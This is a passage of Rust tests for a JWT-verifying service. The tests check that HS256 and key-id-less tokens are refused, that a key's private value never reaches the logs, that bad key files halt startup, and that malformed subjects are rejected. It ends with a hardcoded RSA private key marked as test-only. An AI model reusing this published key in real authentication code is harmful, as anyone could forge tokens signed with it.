    let header = header("EdDSA", Some("one")).to_string();
    let token = compact(&header, claims(&theirs), &Ed(1), EdDSA);
    // 409: the store is not set up.
    assert_eq!(serving.status(&token), 409);
    assert_eq!(serving.status(&compact(&header, claims(&json!({})), &Ed(1), EdDSA)), 401);
    let by_secret = compact(r#"{"alg":"HS256"}"#, claims(&theirs), &secret(), HS256);
    assert_eq!(serving.status(&by_secret), 401);
    let nameless = compact(r#"{"alg":"EdDSA"}"#, claims(&theirs), &Ed(1), EdDSA);
    assert_eq!(serving.status(&nameless), 401);
    assert!(!folder.path().join("accolade.db.secret").exists());

    let mut private = Ed(2).jwk("two");
    private["d"] = json!("never-to-be-logged");
    for (content, times) in [("{", 1), (&file(&[Ed(1).jwk("one"), private]), 2)] {
        std::fs::write(&keys, content).unwrap();
        for _ in 0..3 {
            std::thread::sleep(LOOK_EVERY);
            assert_eq!(serving.status(&token), 409);
        }
        assert_eq!(log().lines().count(), times, "{}", log());
    }
    assert!(log().contains("two") && log().contains("private"), "{}", log());
    assert!(!log().contains("never-to-be-logged"), "{}", log());
}

#[test]
fn keys_that_cannot_be_used_stop_the_start() {
    let folder = tempfile::tempdir().unwrap();
    let start = |args: &[&str]| {
        let output = accolade(folder.path(), args).env("JWKS_FILE", "keys.json").output().unwrap();
        assert!(!output.status.success(), "{args:?}");
        text(&output.stderr)
    };
    let missing = start(&["serve"]);
    assert!(missing.contains("JWKS_FILE") && missing.contains("keys.json"), "{missing}");
    let mut other = Ed(1).jwk("the third");
    other["use"] = json!("tls");
    std::fs::write(folder.path().join("keys.json"), file(&[other])).unwrap();
    let refused = start(&["serve"]);
    assert!(refused.contains("the third") && refused.contains("use must be"), "{refused}");

    std::fs::write(folder.path().join("keys.json"), file(&[Ed(1).jwk("one")])).unwrap();
    for args in [&["serve", "--demo"][..], &["token", "--store", "s", "--role", "support"]] {
        assert!(start(args).contains("JWT_SECRET"), "{args:?}");
    }
    let left = std::fs::read_dir(folder.path()).unwrap().count();
    assert_eq!(left, 1, "nothing is made before the settings can be used");
}

#[test]
fn a_subject_that_no_token_may_name_is_refused() {
    let folder = tempfile::tempdir().unwrap();
    for subject in ["", "a\nb", &"x".repeat(256)] {
        let args = ["token", "--store", "shop", "--role", "support", "--subject", subject];
        let output = run(folder.path(), &args);
        assert!(text(&output.stderr).contains("--subject"), "{subject:?}");
    }
}

/// A private key of these tests and of nothing else (PKCS #1).
const RSA: &str = "
MIIEogIBAAKCAQEAwFoVEbDnGP0oiVcbOlqjL5oF2AKS4zvfrbYRk31oE5BCi6NoNwl33RXk/uSYVY+Dw6dU3BZT04Jz
Nzdy1kpXj0AQRGRGX6b+LjUdwQ83zZfop4fCcj+NFiCQ6iJSBFQwMYesS0SticZ1kxhoGI5J3YBlaiJY2lHoBFql734D
94louLOSMA36urFN/donNLHSJADpql6Y7G9Dg+0ceEkG/HjjeK2JX8j7lc1dzgvQULxMCusF2h/IqiJ0SDWoC41LSv6m
qyg6efTymuwgrAAy0fMW/yK4n6DqgcpuSdoBTHOoqSKZRT1Qip4unL9JtlbTONkR7uDz0FD//3bFb+lxVQIDAQABAoIB
AAEkx/lJ9FB5Y4ilhEZC4bOCa+8j3McNxRUIVG8XEMuvpjr5psClBW8YFpDOv8/KbFMj0eUDxk3R+b4Qo1XTgqpvDBRh
WusYrWw4PqFg5h5f0oSkfFXSO5QvxLd6VW3XKPjdFfuAlgjlWC+etoe8Li5ApC8PCI42bHW81ZMTTGdoCW4JRZoZVFOu
bOEnNr6oOhWO/57SruqOJEQzhKJGQASvT1X1Ju2A3WRsuTnXpDjOQMrg63ivEEC14sMYlbLZH4SoTrI9aCZMw/kSqxXq
VR9mlSGkkLjzPIPOdvOBSOYRawl/nmHb9XNkC2mr3KoD9j1QcVIqCiFtlCOLFQVZzoUCgYEA9YGClK4B1mEgMGaBl3KO
w4j9pIDXnBOiVG+fCFbEHNxIqPRgDKcOmbdR3E6/BV7HGZDcMKIvmdi0qzm00Fsqrk5G0+gLy+7kSDMU2r5savE/qbWB
vPFRyqvLFBUQMWPW4SpOjBfGWM+Kvc7XoUFgVWYUr1FiJdWDtUyECjNsSjMCgYEAyJLs5yV1ons8N31xl/IdUHGRtyeT
bCgJfhLp46a94PiN8WrMW6lQ5bruDGdMUARCi70KAQ7aw3EzcUDcvAfhKwmIuhg7Dbkb37n6pT5UP58yh6MtHblJIAbY
h/7C+ik5ufkIP+Nw2e/3GdUrizFSTM6Ym5eQkXM4AXndjn8s3lcCgYAv4OMDde/7zBNH/SW20GuRLK0yoMHruVSGHQKp
0KoMatVsxcPZk9bgGYVIbr8IIBS6IqsefPLFkSKi5e0iWTU4qyFbAD0Ut3Ejt3qQsmRYctYUlcZIf9OQr/I552WyDCOC
5ApPfe97sHYBUE5zL1nHLdJI4pk+gaZe/B4gEylCSwKBgHuuxnF/Evwf3DEnpM2a2mLJtZ5oxCrUwY3B4gKkxsAc5YKy
ZdQ8I4uWasaxSEirZ9G9v5aJb3NHsf4rjjJQ9ZPRbEO9P2Ul+b9LcvlE5zTYWZN0lxSWNjaOoiWyfs8+br90hpbHDMcH
h6uhXRmXT3XXjBmeK+LVVvrqCCqf164/AoGAF5F6vv63jYcePtn22a7EKYYf3qgXWyhLXm3Okk8tRoLs4QXzPkNMsXa6
ZLYMjaCKOSCKTGQuZ0d79m5jsZEQldLeZkV+KMbWeP9w06cy4Y/iUgBLvqqtcedJgskUSpNrxK/acKzsdFN1Zg9PIFtA
K/C3oiUrqQZdWESbDKtxKjk=";
